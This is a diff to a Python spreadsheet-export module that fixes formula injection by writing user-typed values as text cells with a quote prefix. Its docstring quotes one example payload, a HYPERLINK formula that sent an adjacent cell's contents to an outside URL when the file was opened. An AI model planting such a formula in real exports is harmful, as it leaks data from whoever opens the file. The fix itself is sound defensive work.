@@ -2,6 +2,11 @@
 
 Workbooks are written in openpyxl's write_only mode from a database iterator into a temporary
 file, so memory stays flat however many rows the filters select.
+
+Every value a person typed (an action, an agency's or a kind's name, a notice number) is written
+through `_text`: a text cell, never a formula. openpyxl writes a string starting with "=" as a
+live formula, so an action like `=HYPERLINK("http://…"&D2,"Xem chi tiết")` sent the next cell
+away when the file was opened; "+", "-" and "@" start formulas in Excel when a cell is edited.
 """
 
 import tempfile
@@ -11,12 +16,15 @@ from openpyxl import Workbook
 from openpyxl.cell import WriteOnlyCell
 from openpyxl.styles import Font
 
+from agencies.inputs import clean_text
 from directives.tasks.status import TaskStatus, days_overdue_on
 
 DATE_FORMAT = "DD/MM/YYYY"
 XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
 # A spreadsheet past this is unusable anyway; the last row says the list was cut.
 MAX_ROWS = 200_000
+# What a spreadsheet reads as the start of a formula (tab and CR too, per OWASP's CSV advice).
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
 
 
 def _header(sheet, titles: list[str]) -> list:
@@ -27,6 +35,17 @@ def _header(sheet, titles: list[str]) -> list:
         cell.font = bold
         cells.append(cell)
     return cells
+
+
+def _text(sheet, value: str | None):
+    """A text cell: never a formula, and without the control characters XML refuses."""
+    cell = WriteOnlyCell(sheet, value=clean_text(value or ""))
+    cell.data_type = "s"
+    if cell.value.startswith(_FORMULA_START):
+        # Excel's "'" prefix, kept as a style: the text stays as typed, and editing the cell
+        # does not turn it into a formula either.
+        cell.quotePrefix = True
+    return cell
 
 
 def _date(sheet, value):
@@ -81,10 +100,10 @@ def tasks_workbook_response(rows, day, filename: str) -> FileResponse:
             [
                 count,
                 task.pk,
-                task.action,
-                task.lead.name,
-                "; ".join(agency.name for agency in task.coordinating.all()),
-                task.conclusion.notice.reference,
+                _text(sheet, task.action),
+                _text(sheet, task.lead.name),
+                _text(sheet, "; ".join(agency.name for agency in task.coordinating.all())),
+                _text(sheet, task.conclusion.notice.reference),
                 _date(sheet, published),
                 _date(sheet, task.original_due_date),
                 _date(sheet, task.due_on),
@@ -126,8 +145,8 @@ def agencies_workbook_response(table, period_label: str, filename: str) -> FileR
         sheet.append(
             [
                 row.rank,
-                row.kind_name,
-                row.name,
+                _text(sheet, row.kind_name),
+                _text(sheet, row.name),
                 f.assigned,
                 f.on_time,
                 f.late,
